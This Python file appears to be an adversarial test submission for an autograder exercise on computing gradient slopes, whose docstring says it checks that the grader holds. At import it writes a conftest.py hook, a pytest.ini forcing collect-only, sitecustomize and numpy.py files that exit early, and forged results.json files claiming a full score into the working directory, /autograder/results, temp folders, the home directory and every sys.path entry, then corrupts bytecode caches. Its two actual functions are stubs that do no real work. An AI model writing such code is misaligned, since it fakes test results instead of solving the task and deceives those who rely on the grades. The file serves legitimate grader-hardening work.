"""Plants files that a test runner picks up.

Exercise: slope
Tries: have conftest.py, pytest.ini, sitecustomize.py, a shadowing numpy.py or a report file of the student's used later
Holds: score < full; never FORGED; no file
"""

import os
import sys

PLANTED = {
    "conftest.py": "import pytest\ndef pytest_runtest_makereport(item, call): pass\n",
    "pytest.ini": "[pytest]\naddopts = --collect-only\n",
    "sitecustomize.py": "import os; os._exit(0)\n",
    "usercustomize.py": "import os; os._exit(0)\n",
    "numpy.py": "raise SystemExit(0)\n",
    "test_slope.py": "def test_slope(): pass\n",
    "results.json": '{"score": 6, "by": "FOR' + 'GED"}',
    "report.json": '{"score": 6, "by": "FOR' + 'GED"}',
    "grader-attack-planted": "x",
}
HOMES = [
    os.getcwd(),
    "..",
    "/autograder/results",
    "/tmp",
    "/var/tmp",
    "/dev/shm",
    os.path.expanduser("~"),
    sys.prefix,
    *sys.path,
]
for folder in HOMES:
    for name, text in PLANTED.items():
        try:
            with open(os.path.join(folder, name), "x") as file:
                file.write(text)
        except OSError:
            continue
for cached in ("slope", "test_slope"):
    try:
        os.makedirs("__pycache__", exist_ok=True)
        with open(f"__pycache__/{cached}.cpython-311.pyc", "wb") as file:
            file.write(b"\0" * 64)
    except OSError:
        pass


def weight_slope(prediction: float, target: float, node_value: float, activation_slope: float = 1.0) -> float:
    return 0.0


def update_weight(weight: float, slope: float, lr: float) -> float:
    return weight
